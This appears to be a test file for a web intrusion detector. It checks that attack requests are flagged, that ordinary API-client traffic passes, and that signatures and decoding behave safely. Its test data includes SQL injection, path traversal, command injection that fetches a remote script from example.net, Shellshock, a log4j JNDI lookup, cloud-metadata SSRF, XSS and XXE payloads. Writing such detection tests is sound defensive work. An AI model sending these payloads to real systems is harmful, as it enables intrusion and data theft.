import assert from 'node:assert/strict';
import fc from 'fast-check';
import { IntrusionDetector } from '../../../../src/security/intrusion/detector';
import { readAll } from '../../../../src/security/intrusion/normalize';
import { scannerAgent } from '../../../../src/security/intrusion/scanner-agents';
import { signatures } from '../../../../src/security/intrusion/signature-table';
import { makeFacts, type MadeRequest } from '../../../helpers/security-fixture';

const detector = new IntrusionDetector();
const categoriesOf = (request: MadeRequest) => detector.inspect(makeFacts(request)).map(({ category }) => category);
const q = (text: string) => ({ target: `/find?q=${encodeURIComponent(text)}` });

describe('intrusion detection', () => {
  const attacks: readonly (readonly [string, MadeRequest, string])[] = [
    ['UNION SELECT', q("-7' UNION ALL SELECT login, hash FROM members-- "), 'sqli'],
    ['UNION SELECT split by comments', q('7/**/union/*x*/select/**/1,2'), 'sqli'],
    ['a tautology', q("nobody' or '5'='5"), 'sqli'],
    ['a numeric tautology', q('3 and 77=77'), 'sqli'],
    ['a delay', q('3;waitfor delay "0:0:9"--'), 'sqli'],
    ['climbing folders', { target: '/static/../../../../etc/group' }, 'traversal'],
    ['climbing folders encoded twice', { target: '/static/%252e%252e%252f%252e%252e%252fetc/group' }, 'traversal'],
    ['climbing folders in overlong UTF-8', { target: '/static/%c0%ae%c0%ae/%c0%ae%c0%ae/x' }, 'protocol'],
    ['a Windows file', q('..\\..\\windows\\win.ini'), 'traversal'],
    ['a stream wrapper', q('php://filter/resource=config'), 'file-access'],
    ['a command behind a semicolon', q('8.8.8.8; wget http://example.net/a.sh'), 'rce'],
    ['a command hidden by quotes', q(`x|c''at /e"t"c/host""s`), 'rce'],
    ['command substitution', q('$(curl example.net)'), 'rce'],
    ['Shellshock', { headers: { 'user-agent': '() { ignored; }; /usr/bin/touch /tmp/x' } }, 'rce'],
    ['a script tag', q('<ScRiPt >top.alert(7)</sCrIpT>'), 'xss'],
    ['an event handler', q('"><video onloadstart=confirm(7)>'), 'xss'],
    ['a script URL with entities', q('<a href="jav&#x61;script&colon;x()">'), 'xss'],
    ['a template expression', q('{{ 91*7 }}'), 'template'],
    ['a log4j lookup', { headers: { 'x-api-version': '${${lower:j}ndi:ldap://example.net/a}' } }, 'java'],
    ['a metadata service', q('http://169.254.169.254/latest/meta-data/'), 'ssrf'],
    ['a NoSQL operator', { target: '/login?user[$ne]=1' }, 'nosql'],
    ['a PHP object', q('O:4:"User":1:{s:4:"name";s:1:"x";}'), 'deserialization'],
    ['prototype pollution', { target: '/x?__proto__[admin]=1' }, 'nodejs'],
    ['an XML entity', q('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>'), 'injection'],
    ['response splitting', { target: '/x?to=a%0d%0aSet-Cookie:%20a=b' }, 'injection'],
    ['a NUL byte', { target: '/x?f=report.pdf%00.html' }, 'protocol'],
    ['a forward-proxy request', { target: 'http://example.net/' }, 'protocol'],
    ['TRACE', { method: 'TRACE' }, 'protocol'],
    ['a jndi lookup in a cookie', { headers: { cookie: 'a=${jndi:ldap://example.net/x}' } }, 'injection'],
    ['a script tag in a referring page', { headers: { referer: 'https://example.net/?a=<script>' } }, 'injection'],
    ['a Base64 payload', { target: `/x?d=${Buffer.from('<svg onload=confirm(77)>').toString('base64')}` }, 'xss'],
    ['a scanner that says so', { headers: { 'user-agent': 'Mozilla/5.0 Nikto/2.5' } }, 'scanner'],
  ];
  for (const [what, request, category] of attacks) {
    it(`sees ${what}`, () => {
      assert.ok(categoriesOf(request).includes(category as never), categoriesOf(request).join());
    });
  }

  const honest: readonly MadeRequest[] = [
    { target: '/v1/models/hf.co/unsloth/Qwen3-Coder-30B-A3B-Instruct-GGUF:Q4_K_M' },
    { target: '/v1/models/C:%5CUsers%5CJos%C3%A9%5Cmodels%5Cllama%203.gguf' },
    { target: '/v1/models/%2Fhome%2Fme%2Fmodels%2Fa.gguf' },
    { target: '/v1/models?limit=20&after=model_abc&order=desc' },
    { target: '/v1/files?purpose=fine-tune&include[]=a' },
    { target: '/v1beta/models?key=AIzaSyD-abcDEF_123&alt=sse&pageSize=50' },
    {
      target: '/v1/vector_stores/vs_1/search?query=how%20to%20select%20the%20best%20model%20and%20drop%20the%20others',
    },
    { target: '/search?q=what%27s%20the%20difference%20between%20or%20and%20and%3F' },
    { target: '/search?q=Rock%20%26%20Roll%3B%20don%27t%20stop' },
    { target: '/search?q=C%23%20vs%20F%23%20%28functional%29' },
    { target: '/search?q=union%20of%20sets' },
    { target: '/index.php?page=blue%20shoes%2C%2042' },
    { target: '/api/blobs/sha256:29fdb92e57cf0827ded04ae6461b5931d01fa595843f55d36f5b275a52087dd2' },
    { target: '/.well-known/oauth-authorization-server' },
    { target: '/assets/index-DiwrgTda.js.map' },
    { target: '/v1/models?name=gpt-oss%3A20b' },
    { headers: { 'user-agent': 'claude-cli/2.0.14 (external, cli)' } },
    { headers: { 'user-agent': 'OpenAI/Python 1.99.1' } },
    { headers: { 'user-agent': 'node' } },
    { headers: { 'user-agent': '' } },
    {
      headers: {
        'user-agent':
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.106.0 Chrome/140.0 Electron/39.0 Safari/537.36',
      },
    },
    { headers: { cookie: 'theme=dark; q=select%20*%20from%20t; _xsrf=2|abc|def; s:x.y+z/w==' } },
    { headers: { authorization: "Bearer a'; drop table x; -- " } },
    { headers: { referer: 'http://localhost:8888/lab?path=a.ipynb&q=1%20or%202' } },
    { headers: { 'x-stainless-retry-count': '0', 'x-stainless-runtime': 'node', 'anthropic-version': '2023-06-01' } },
    {
      headers: {
        'content-type': 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW',
        'content-length': '77',
      },
    },
    {
      headers: {
        traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
        'accept-language': 'ja,en-US;q=0.9,*;q=0.5',
      },
    },
    { headers: { 'sec-ch-ua': '"Chromium";v="138", "Not;A=Brand";v="8"', 'x-request-id': 'a1b2-c3' } },
    { method: 'OPTIONS', headers: { 'access-control-request-headers': 'authorization,content-type' } },
    { method: 'HEAD', target: '/' },
  ];
  for (const request of honest) {
    it(`leaves ${JSON.stringify(request).slice(0, 90)} alone`, () => {
      assert.deepEqual(detector.inspect(makeFacts(request)), []);
    });
  }

  it('never looks at the value of a key', () => {
    assert.deepEqual(categoriesOf({ headers: { 'x-api-key': "1' or '1'='1" } }), []);
  });

  it('can be told to leave out a rule or a category', () => {
    const quiet = new IntrusionDetector(['sqli', 'xss.script-tag']);
    const ids = quiet.inspect(makeFacts(q("<script>x</script>' union select 1"))).map(({ id }) => id);
    assert.ok(!ids.some((id) => id.startsWith('sqli.') || id === 'xss.script-tag'), ids.join());
  });

  it('takes any text without throwing and in bounded evidence', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 3000 }), fc.string({ maxLength: 3000 }), (target, header) => {
        for (const { evidence } of detector.inspect(makeFacts({ target: `/${target}`, headers: { 'x-a': header } }))) {
          assert.ok(evidence.length <= 200);
        }
      }),
      { numRuns: 200 },
    );
  });

  it('names the length alone of what is longer than anything', () => {
    assert.ok(
      detector
        .inspect(makeFacts({ target: `/x?q=${'ab'.repeat(6000)}` }))
        .some(({ id }) => id === 'protocol.oversized'),
    );
  });

  it('sees a payload behind a hundred parameters', () => {
    const many = Array.from({ length: 100 }, (_, i) => `a${i}=1`).join('&');
    assert.ok(categoriesOf({ target: `/x?${many}&b=%3Cscript%3Ealert(1)%3C/script%3E` }).includes('xss'));
  });

  it('sees a payload behind padding', () => {
    const padded = `${'lorem ipsum '.repeat(400)}<script>alert(1)</script>`;
    assert.ok(categoriesOf(q(padded)).includes('xss'));
  });
});

describe('signatures', () => {
  it('have ids of their own, a category and a reason', () => {
    assert.equal(new Set(signatures.map(({ id }) => id)).size, signatures.length);
    for (const { id, category, reason, points } of signatures) {
      assert.ok(id.startsWith(`${category}.`) && reason !== '' && points > 0 && points <= 40, id);
    }
  });

  it('never repeat a group without a bound: no pattern is worse than linear in practice', () => {
    for (const { id, pattern } of signatures) {
      // `(…+)+`, `(…*)*`, `.*` and `.+` are what backtracks without end; inside a class they are characters.
      const outside = pattern.source.replace(/\[(?:\\.|[^\]\\])*\]/g, 'C').replace(/\\./g, 'E');
      assert.doesNotMatch(outside, /[+*}]\)[+*]|\.[*+]/, id);
    }
  });

  it('match no empty text and keep no state', () => {
    for (const { id, pattern } of signatures) {
      assert.ok(!pattern.global && !pattern.sticky, id);
      assert.ok(!pattern.test(''), id);
    }
  });
});

describe('readings', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['%253Cscript%253E', '<script>'],
    ['%u003cb%u003e', '<b>'],
    ['%c0%ae%c0%ae%c0%af', '../'],
    ['%ef%bc%9cb%ef%bc%9e', '<b>'],
    ['a%00b', 'ab'],
    ['\\u003cb\\x3e', '<b>'],
    ['%zz%', '%zz%'],
    ['%E3%81%82', 'あ'],
  ];
  for (const [raw, text] of cases) {
    it(`reads ${raw} as ${text}`, () => {
      assert.equal(readAll(raw, false).text, text);
    });
  }

  it('takes + as a space in queries only', () => {
    assert.equal(readAll('a+b', true).text, 'a b');
    assert.equal(readAll('a+b', false).text, 'a+b');
  });

  it('tells double encoding apart from single', () => {
    assert.ok(readAll('%252f', false).flags.has('double-encoding'));
    assert.ok(!readAll('%2f', false).flags.has('double-encoding'));
  });
});

describe('agents', () => {
  for (const agent of [
    'sqlmap/1.8',
    'Mozilla/5.0 zgrab/0.x',
    'Nuclei - Open-source project',
    'gobuster/3.6',
    'Fuzz Faster U Fool v2.1',
  ]) {
    it(`knows ${agent} as a scanner`, () => assert.notEqual(scannerAgent(agent), undefined));
  }
  for (const agent of [
    'OpenAI/JS 6.49.0',
    'anthropic-ai',
    'cohere-ai',
    'git/2.43.0',
    'fasthttp',
    'curl/8.5.0',
    'python-requests/2.32',
    'Go-http-client/1.1',
    'okhttp/4.12.0',
    'axios/1.7',
    '',
    'undici',
    'Bun/1.2',
  ]) {
    it(`takes ${agent || 'an empty agent'} for no scanner`, () => assert.equal(scannerAgent(agent), undefined));
  }
});
